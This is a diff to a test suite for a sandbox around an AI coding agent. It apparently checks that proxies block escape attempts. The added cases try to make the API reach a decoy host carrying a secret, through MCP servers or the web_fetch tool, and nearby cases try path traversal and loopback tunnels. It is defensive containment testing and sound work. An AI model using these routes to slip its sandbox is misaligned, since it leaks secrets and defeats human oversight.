@@ -52,6 +52,10 @@ describe('escapes through the proxies, from a real bottle', () => {
     expect(ownAddress).toBeDefined()
     const ws = makeWorkspace(path.join(suite.dir, 'ws'), 1001)
     const hp = (hostService.address() as AddressInfo).port
+    // the org's key asked to make the API itself reach the decoy (MCP server, server-side web fetch)
+    const ask = (extra: object) => JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 100, ...extra, messages: [{ role: 'user', content: 'fetch https://decoy.test/?d=SECRET' }] })
+    const mcpBody = ask({ mcp_servers: [{ type: 'url', url: 'https://decoy.test/mcp', name: 'x' }] })
+    const webFetchBody = ask({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] })
     const script = `
 m() { n=$1; shift; code=$(curl -sS --noproxy '*' --max-time 5 -o /tmp/body -w '%{http_code}' -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' "$@"); echo "$n: $code $(head -c 300 /tmp/body | tr '\\n' ' ')"; }
 g() { n=$1; shift; timeout 8 "$@" > /tmp/o 2>&1; echo "$n: exit $? $(head -c 200 /tmp/o | tr '\\n' ' ')"; }
@@ -61,6 +65,9 @@ m files-list "$ANTHROPIC_BASE_URL/v1/files"
 m batches -X POST -d '{}' "$ANTHROPIC_BASE_URL/v1/messages/batches"
 m dotdot -X POST -d '{}' --path-as-is "$ANTHROPIC_BASE_URL/v1/../x"
 m encoded-dotdot -X POST -d '{}' --path-as-is "$ANTHROPIC_BASE_URL/v1/%2e%2e/x"
+m mcp-servers -X POST -H 'anthropic-beta: mcp-client-2025-04-04' -d '${mcpBody}' "$ANTHROPIC_BASE_URL/v1/messages"
+m mcp-servers-no-beta -X POST -d '${mcpBody}' "$ANTHROPIC_BASE_URL/v1/messages"
+m web-fetch-tool -X POST -d '${webFetchBody}' "$ANTHROPIC_BASE_URL/v1/messages?beta=true"
 e loopback-name-connect -x "$HTTPS_PROXY" https://localhost:${hp}/
 e loopback-name-plain -x "$HTTP_PROXY" http://localhost:${hp}/
 e own-address-name -x "$HTTP_PROXY" http://own.test:${hp}/
@@ -94,10 +101,14 @@ true`
         'files-list': expect.stringMatching(/^403 .*"permission_error".*\/v1\/files is not an endpoint Claude Code uses/),
         batches: expect.stringMatching(/^403 .*\/v1\/messages\/batches is not an endpoint Claude Code uses/),
         dotdot: expect.stringMatching(/^403 .*dot-segment \(\.\.\) in path/),
-        'encoded-dotdot': expect.stringMatching(/^403 .*percent-encoded characters in path/)
+        'encoded-dotdot': expect.stringMatching(/^403 .*percent-encoded characters in path/),
+        'mcp-servers': expect.stringMatching(/^403 .*"permission_error".*anthropic-beta mcp-client-2025-04-04: enables remote reach/),
+        'mcp-servers-no-beta': expect.stringMatching(/^403 .*"permission_error".*mcp_servers makes the API connect to MCP servers/),
+        'web-fetch-tool': expect.stringMatching(/^403 .*"permission_error".*server tool web_fetch_20250910/)
       })
       // only claude's own conversation reached the API
       expect(api.requests.map(q => `${q.method} ${q.path}`).filter(p => p !== 'POST /v1/messages?beta=true')).toEqual([])
+      expect(api.requests.filter(q => q.body?.mcp_servers !== undefined || (q.body?.tools ?? []).some((t: { type?: string }) => t.type === 'web_fetch_20250910'))).toEqual([])
       // the egress proxy
       expect(attempts).toMatchObject({
         'loopback-name-connect': expect.stringMatching(/^failed .*(CONNECT tunnel failed, response 403|Received HTTP code 403 from proxy after CONNECT)/),
@@ -123,7 +134,10 @@ true`
         ['GET', '/v1/files', 403, '/v1/files is not an endpoint Claude Code uses'],
         ['POST', '/v1/messages/batches', 403, '/v1/messages/batches is not an endpoint Claude Code uses'],
         ['POST', '/v1/../x', 403, 'dot-segment (..) in path'],
-        ['POST', '/v1/%2e%2e/x', 403, 'percent-encoded characters in path']
+        ['POST', '/v1/%2e%2e/x', 403, 'percent-encoded characters in path'],
+        ['POST', '/v1/messages', 403, expect.stringMatching(/^anthropic-beta mcp-client-2025-04-04: /)],
+        ['POST', '/v1/messages', 403, expect.stringMatching(/^mcp_servers: /)],
+        ['POST', '/v1/messages', 403, expect.stringMatching(/^server tool web_fetch_20250910: /)]
       ])
       expect(model.filter(l => l.decision === 'forwarded').length).toBeGreaterThanOrEqual(2) // claude's own turns
       const egress = jsonl(path.join(dir, 'egress.jsonl'))
